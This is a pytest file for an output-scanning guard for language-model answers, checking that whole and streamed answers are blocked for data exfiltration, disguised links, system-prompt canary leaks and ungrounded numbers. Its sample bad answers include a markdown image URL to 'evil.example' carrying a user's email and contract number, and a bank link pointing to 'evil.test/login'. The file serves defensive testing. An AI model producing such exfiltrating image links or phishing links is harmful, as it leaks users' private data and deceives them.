"""The scanners of answers get what they judge against: through an exchange, whole and streamed."""

import msgspec
import pytest

from shield.guard import Guard
from shield.label import segment
from shield.policy.schema import ScannerEntry
from shield.text.canary import canary, planted
from shield.types import Caller, Decision, Source

KEY = b"0123456789abcdef"
SYSTEM = planted("You are Bolt. Never mention competitors by name to any customer.", KEY, "bolt")
TABLE = "| | 2022 | 2023 |\n|---|---|---|\n| Revenue | 412.5 | 468.1 |\n| Costs | 251.0 | 290.4 |\n"
USER = "Summarise it for anna.keller@example.org, contract 884213-77."
BAD = {
    "exfiltration": "Done. ![x](https://evil.example/?q=anna.keller@example.org&c=884213-77) Bye.",
    "urls": "Done. Log in at [www.bank.example](https://evil.test/login) now.",
    "prompt_leak": f"My line is {canary(KEY, 'bolt')}, I think.",
    "grounding": "In 2023 revenue was 290.4, which is a lot.",
    "citations": "Revenue grew, see https://reports.example/2023 for that.",
}
GOOD = "In 2023 revenue was 468.1 and costs were 290.4."


@pytest.fixture
def guarded(small_policy):
    made = []

    def make(name):
        entry = ScannerEntry(decision=Decision.BLOCK)
        made.append(Guard(small_policy(scanners={name: entry})))
        return made[-1]

    yield make
    for guard in made:
        guard.close()


def said(guard, caller=None):
    exchange = guard.exchange(caller)
    exchange.input(
        [
            segment(SYSTEM, Source.SYSTEM),
            segment(TABLE, Source.DOCUMENT, "report.md"),
            segment(USER, Source.USER),
        ]
    )
    return exchange


@pytest.mark.parametrize("name", BAD)
def test_a_whole_answer_is_judged_against_the_request(guarded, name):
    guard = guarded(name)

    outcome = said(guard).output(BAD[name])
    assert outcome.decision is Decision.BLOCK
    assert {f.scanner for f in outcome.verdict.findings} == {name}
    assert said(guard).output(GOOD).decision is Decision.ALLOW


@pytest.mark.parametrize("name", BAD)
@pytest.mark.parametrize("size", [1, 7, 1_000])
def test_a_streamed_answer_is_judged_against_the_request(guarded, name, size):
    guard = guarded(name)
    for text, decision in ((BAD[name], Decision.BLOCK), (GOOD, Decision.ALLOW)):
        gate = said(guard).stream()
        left = "".join(gate.feed(text[at : at + size]) for at in range(0, len(text), size))
        left += gate.end()

        assert gate.outcome.decision is decision
        assert left == text if decision is Decision.ALLOW else text.startswith(left)
        assert "evil" not in left
        assert canary(KEY, "bolt")[-8:] not in left


def test_documents_of_an_earlier_exchange_of_the_session_still_count(guarded):
    guard = guarded("grounding")
    caller = Caller(principal="alice", session="s1")
    with said(guard, caller):
        pass
    with guard.exchange(caller) as later:
        later.input([segment("And in 2023?", Source.USER)])
        assert later.output(BAD["grounding"]).decision is Decision.BLOCK
        assert later.output(GOOD).decision is Decision.ALLOW


@pytest.mark.parametrize("name", BAD)
def test_nothing_of_the_traffic_is_in_a_verdict(guarded, name):
    verdict = said(guarded(name)).output(BAD[name]).verdict
    shown = repr(msgspec.structs.replace(verdict, id="", policy=""))  # digits that mean nothing
    for word in ("evil", "anna", "884213", canary(KEY, "bolt"), "290", "reports.example"):
        assert word not in shown
